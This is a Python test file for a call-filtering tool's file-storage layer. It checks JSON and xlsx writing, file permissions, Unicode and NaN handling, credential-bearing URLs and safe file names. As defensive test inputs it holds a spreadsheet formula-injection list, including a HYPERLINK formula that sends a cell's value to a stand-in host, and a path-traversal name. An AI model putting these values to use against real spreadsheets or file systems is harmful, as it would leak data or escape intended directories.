"""The files seam: any fsspec URL through ObjectStoragePath, whole files only, no silent default root."""

from __future__ import annotations

import io
import uuid
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from callfilter import codes, contract, files


def test_a_memory_url_holds_json_and_xlsx_like_a_directory_does(monkeypatch):
    root = f"memory://callfilter-{uuid.uuid4().hex}"
    monkeypatch.setenv(files.FILES_ROOT_ENV, root)
    storage = files.Storage()
    path = files.request_path(7, 3)
    assert not storage.exists(path)
    assert storage.write_json(path, {"request_id": "cf-7-3", "numbers": ["电话"]}) == f"{root}/{path}"
    assert storage.exists(path) and storage.read_json(path) == {"request_id": "cf-7-3", "numbers": ["电话"]}

    xlsx = files.results_xlsx_path(7, 3, attempt=2)
    storage.write_xlsx(xlsx, [("results", ["nid", "status"], [("000001", "ANSWERED")])])
    sheet = load_workbook(io.BytesIO(storage.read_bytes(xlsx))).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["nid", "status"],
        ["000001", "ANSWERED"],
    ]
    # Another Storage on the same URL (another task in this process) sees the same files.
    assert files.Storage(root).read_json(path)["request_id"] == "cf-7-3"


def test_a_local_directory_gets_whole_files_and_no_leftovers(tmp_path):
    storage = files.Storage(str(tmp_path / "files"))
    path = files.raw_results_path(1, 12)
    storage.write_bytes(path, b"first")
    storage.write_bytes(path, b"second, longer")
    assert (tmp_path / "files" / path).read_bytes() == b"second, longer"
    assert sorted(p.name for p in (tmp_path / "files" / path).parent.iterdir()) == ["batch-0012.json"]
    # Files of phone numbers are not for every local user to read.
    assert (tmp_path / "files" / path).stat().st_mode & 0o777 == 0o640
    assert (tmp_path / "files" / path).parent.stat().st_mode & 0o007 == 0


def test_json_files_are_compact_utf8_and_hold_what_a_vendor_may_send(tmp_path):
    import json

    storage = files.Storage(str(tmp_path / "files"))
    answer = {
        "task_id": "T1",
        "records": [
            {"nid": "1", "agent": "张三", "billsec": 2**70, "ratio": -0.5, "note": 'a"\\\n\x00\u2028'}
        ],
        "total": 1,
        "empty": {},
        "flags": [True, False, None],
    }
    storage.write_json("a.json", answer)
    data = storage.read_bytes("a.json")
    assert data == json.dumps(answer, ensure_ascii=False, separators=(",", ":")).encode()
    assert data == contract.encode_body(answer)  # a request file holds the very bytes its send posts
    assert storage.read_json("a.json") == answer
    # A lone surrogate (a vendor's "\ud800") cannot be UTF-8: written escaped, read back as it came.
    storage.write_json("b.json", {"agent": "lone \ud800 中"})
    assert storage.read_json("b.json") == {"agent": "lone \ud800 中"}
    assert b"\\ud800" in storage.read_bytes("b.json")
    # A number JSON cannot hold (a vendor's NaN) is written as null: the file stays standard JSON.
    storage.write_json("c.json", {"billsec": float("nan")})
    assert json.loads(storage.read_bytes("c.json"), parse_constant=lambda name: pytest.fail(name)) == {
        "billsec": None
    }
    storage.write_json("d.json", {"records": [{"agent": "lone \ud800", "billsec": float("-inf")}]})
    assert json.loads(storage.read_bytes("d.json"), parse_constant=lambda name: pytest.fail(name)) == {
        "records": [{"agent": "lone \ud800", "billsec": None}]
    }


def test_no_files_root_is_a_clear_error_not_a_per_worker_default(monkeypatch):
    monkeypatch.delenv(files.FILES_ROOT_ENV, raising=False)
    with pytest.raises(files.FilesRootNotSetError, match="CALLFILTER_FILES_ROOT is not set"):
        files.Storage()


def test_a_files_root_with_a_password_in_it_is_refused_without_showing_it(monkeypatch):
    monkeypatch.setenv(files.FILES_ROOT_ENV, "s3://AKIAEXAMPLE:s3cr3t-k3y@bucket/callfilter")
    with pytest.raises(files.FilesRootNotSetError, match="carries a password") as err:
        files.Storage()
    assert "s3cr3t-k3y" not in str(err.value)


def test_no_cell_becomes_a_formula_and_control_characters_do_not_break_the_file(tmp_path):
    hostile = [
        '=HYPERLINK("http://x/?"&B3,"y")',
        "=1+2",
        "+8613800138000",
        "-1",
        "@SUM(A1)",
        "138\x010013\x0b8000",
        "ok",
    ]
    storage = files.Storage(str(tmp_path))
    storage.write_xlsx("t.xlsx", [("=title\x02", ["=h", "telno"], [(i, v) for i, v in enumerate(hostile)])])
    workbook = load_workbook(io.BytesIO(storage.read_bytes("t.xlsx")))
    sheet = workbook.active
    assert sheet.title == "=title_x02"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in sheet["A"]][0] == "=h"
    assert [c.value for c in sheet["B"]][1:] == [
        '=HYPERLINK("http://x/?"&B3,"y")',
        "=1+2",
        "+8613800138000",
        "-1",
        "@SUM(A1)",
        "138\\x010013\\x0b8000",
        "ok",
    ]


def test_every_cell_type_reads_back_as_written_and_every_part_is_well_formed_xml(tmp_path):
    """Our xlsx writer (callfilter.xlsx), read back by openpyxl: what a person opening the file sees."""
    china = timezone(timedelta(hours=8))
    rows = [
        (1, 2.5, 'x <&> " y', datetime(2026, 1, 2, 11, 4, 5, 123000, tzinfo=china), None, True),
        (" padded ", Decimal("1.25"), "张三 号码", "a\r\nb\tc", False, 10**15 + 1),
        (date(2026, 3, 4), float("nan"), "", "lone \ud800 surrogate", datetime(2026, 5, 6, 7, 8, 9), -0.5),
        (codes.Flag.DONE, codes.TaskStatus.FINISHED, None, None, None, None),
    ]
    storage = files.Storage(str(tmp_path))
    storage.write_xlsx(
        "types.xlsx",
        [
            ("batch 1", ["a", "b", "c", "d", "e", "f"], iter(rows)),
            ("a/b:c", ["only"], []),
            ("BATCH 1", ["x"], []),
        ],
    )
    data = storage.read_bytes("types.xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for part in book.namelist():
            ElementTree.fromstring(book.read(part))  # a strict XML parser: no part is malformed
        assert {info.compress_type for info in book.infolist()} == {zipfile.ZIP_DEFLATED}
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["batch 1", "a_b_c", "BATCH 1_2"]  # names xlsx allows, unique in any case
    got = list(workbook["batch 1"].iter_rows(values_only=True))
    assert got == [
        ("a", "b", "c", "d", "e", "f"),
        (1, 2.5, 'x <&> " y', datetime(2026, 1, 2, 3, 4, 5, 123000), None, True),  # UTC wall time
        (" padded ", 1.25, "张三 号码", "a\r\nb\tc", False, 10**15 + 1),
        (datetime(2026, 3, 4), "nan", "", "lone \\ud800 surrogate", datetime(2026, 5, 6, 7, 8, 9), -0.5),
        (int(codes.Flag.DONE), int(codes.TaskStatus.FINISHED), None, None, None, None),
    ]
    assert workbook["batch 1"]["D2"].number_format == "yyyy-mm-dd h:mm:ss"
    assert list(workbook["a_b_c"].iter_rows(values_only=True)) == [("only",)]


def test_a_cell_of_a_type_xlsx_cannot_hold_is_a_clear_error(tmp_path):
    storage = files.Storage(str(tmp_path))
    with pytest.raises(TypeError, match=r"an xlsx cell cannot hold dict \(\{'nested': 1\}\)"):
        storage.write_xlsx("bad.xlsx", [("s", ["record"], [({"nested": 1},)])])
    with pytest.raises(ValueError, match="at least one sheet"):
        storage.write_xlsx("none.xlsx", [])
    assert not list(tmp_path.iterdir())  # no half-written file


def test_a_large_sheet_streams_and_reads_back_row_for_row(tmp_path):
    """More rows than one write of the sheet's part (500): the chunks join without a seam."""
    rows = [(f"{n:06d}", f"1380013{n:04d}", n, datetime(2026, 11, 27, 1, 2, 3 + n % 50)) for n in range(1234)]
    storage = files.Storage(str(tmp_path))
    storage.write_xlsx("big.xlsx", [("numbers", ["nid", "telno", "n", "at"], (r for r in rows))])
    sheet = load_workbook(io.BytesIO(storage.read_bytes("big.xlsx")), read_only=True)["numbers"]
    assert list(sheet.iter_rows(values_only=True)) == [("nid", "telno", "n", "at"), *rows]


@pytest.mark.parametrize(
    ("creator", "name"),
    [
        ("张三", "张三"),
        ("李四-ops", "李四-ops"),
        ("王 五", "王 五"),
        ("ana.lyst", "ana.lyst"),
        ("../张三/x", "张三_x"),
        ('a:b*c?d"e<f>g|h#i%j\\k', "a_b_c_d_e_f_g_h_i_j_k"),
        ("...", "user"),
        ("", "user"),
    ],
)
def test_a_creator_keeps_their_name_in_file_names_but_no_unsafe_character(creator, name):
    assert files.summary_path(12, creator) == f"task-12/{name}-task-12-summary.xlsx"
